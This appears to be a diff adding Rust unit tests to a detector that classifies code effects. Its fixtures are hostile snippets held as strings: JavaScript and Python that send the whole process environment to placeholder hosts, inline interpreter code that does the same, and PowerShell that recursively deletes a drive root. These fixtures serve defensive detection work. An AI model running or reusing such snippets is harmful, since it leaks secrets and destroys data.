@@ -441,3 +441,42 @@ fn fetched_bytes_written_to_a_file_and_then_run_run_fetched_code() {
     let saved = "import urllib.request\np='data.json'\nopen(p,'wb').write(urllib.request.urlopen('https://api.example/d').read())\nprint(open(p).read())\n";
     assert!(kinds_of(Language::Python, saved).is_empty());
 }
+
+#[test]
+fn a_module_bound_to_another_name_is_read_as_the_module() {
+    // `h.request` is `https.request`; what is written to it leaves.
+    let js = "const h = require('node:https');\nconst z = require('node:zlib');\nconst body = z.gzipSync(JSON.stringify({ s: process.env }));\nconst r = h.request({ host: ['a', 'b'].join('-') + '.example', method: 'PUT' }, () => {});\nr.end(body);\n";
+    assert_eq!(kinds_of(Language::JavaScript, js), ["exfil:r.end"]);
+    let py = "import os, urllib.request as r\nr.urlopen('https://x.example/b', data=repr(dict(os.environ)).encode())\n";
+    assert_eq!(
+        kinds_of(Language::Python, py),
+        ["exfil:urllib.request.urlopen"]
+    );
+}
+
+#[test]
+fn an_interpreter_started_with_inline_code_in_an_argument_list_runs_that_code() {
+    let py = "import os, subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'import os,urllib.request as r;r.urlopen(\"https://x.example/b\",data=repr(dict(os.environ)).encode())'], stdout=-3)\n";
+    assert_eq!(effects(Language::Python, py).len(), 1);
+    let js = "const { spawn } = require('child_process');\nspawn('node', ['-e', \"fetch('https://x.example', {method: 'POST', body: JSON.stringify(process.env)})\"]);\n";
+    assert_eq!(effects(Language::JavaScript, js).len(), 1);
+    // A program run with fixed arguments, no code.
+    assert!(
+        effects(
+            Language::Python,
+            "import subprocess\nsubprocess.run(['git', 'status', '-s'])\n"
+        )
+        .is_empty()
+    );
+}
+
+#[test]
+fn a_path_cut_down_to_its_drive_and_deleted_through_cmd_deletes_the_drive() {
+    let ps = "$cache = $env:PARCEL_CACHE_DIR\n$root  = ($cache -split '\\\\')[0] + '\\'\ncmd /c \"rmdir /s /q $root\"\n";
+    assert_eq!(kinds_of(Language::PowerShell, ps), ["Destroy"]);
+    let q = "$d = Split-Path -Path $env:CACHE -Qualifier\nRemove-Item -Recurse -Force $d\n";
+    assert_eq!(kinds_of(Language::PowerShell, q), ["Destroy"]);
+    // The cache folder itself, or a folder under the script's own.
+    let own = "$cache = Join-Path $PSScriptRoot '.cache'\ncmd /c \"rmdir /s /q $cache\"\nRemove-Item -Recurse $cache\n";
+    assert!(kinds_of(Language::PowerShell, own).is_empty());
+}
